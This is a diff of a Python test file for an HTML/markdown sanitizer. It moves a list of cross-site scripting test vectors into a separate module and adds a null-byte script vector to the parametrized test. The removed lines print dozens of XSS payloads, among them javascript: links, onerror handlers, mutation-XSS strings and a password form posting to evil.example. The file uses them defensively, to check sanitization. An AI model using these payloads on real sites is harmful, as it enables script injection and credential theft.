@@ -9,53 +9,9 @@ from hypothesis import strategies as st
 
 from app.text import markup
 from tests.support.endless import stopped_if_endless
+from tests.support.vectors import VECTORS
 
 ALLOWED = {"p", "br", "em", "strong", "del", "blockquote", "a", "ul", "ol", "li", "code", "pre"}
-
-VECTORS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-    "[x](//evil.example)",
-    "[x](/account/erase)",
-    "[x](mailto:a@example.org)",
-    "<javascript:alert(1)>",
-    '<https://example.org/"onmouseover=alert(1)>',
-    "![x](javascript:alert(1))",
-    '![x" onerror="alert(1)](https://example.org/x.png)',
-    '[x](https://example.org "title\\" onclick=alert(1)")',
-    "[x]: javascript:alert(1)\n\n[x]",
-    '`<img src=x onerror="alert(1)">`',
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><script>alert(1)</script>\ncode\n```',
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<!-- --!><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?><script>alert(1)</script>",
-    "http://example.org/<script>alert(1)</script>",
-    'https://example.org/?a=<b&c="onload=alert(1)',
-    "<style>*{background:url(javascript:alert(1))}</style>",
-    "<base href=//evil.example>",
-    "<form action=//evil.example><input name=password>",
-    "\x00<script\x00>alert(1)</script>",
-    "\ufdd0script>alert(1)\ufdd0/script>",
-    "%EF%B7%90script>",
-    "# <script>alert(1)</script>",
-    "<p style='position:fixed;inset:0'>",
-    "<p id=main class=notice>",
-]
 
 
 class Reader(HTMLParser):
@@ -96,7 +52,7 @@ def assert_safe(html: str) -> None:
             assert attributes == {}
 
 
-@pytest.mark.parametrize("vector", VECTORS)
+@pytest.mark.parametrize("vector", [*VECTORS, "\x00<script\x00>alert(1)</script>"])
 def test_no_attack_comes_through(vector: str) -> None:
     assert_safe(markup.render(vector))
     assert_safe(markup.render(f"> a *quote*\n\n- {vector}\n\n{vector} **and** {vector}"))
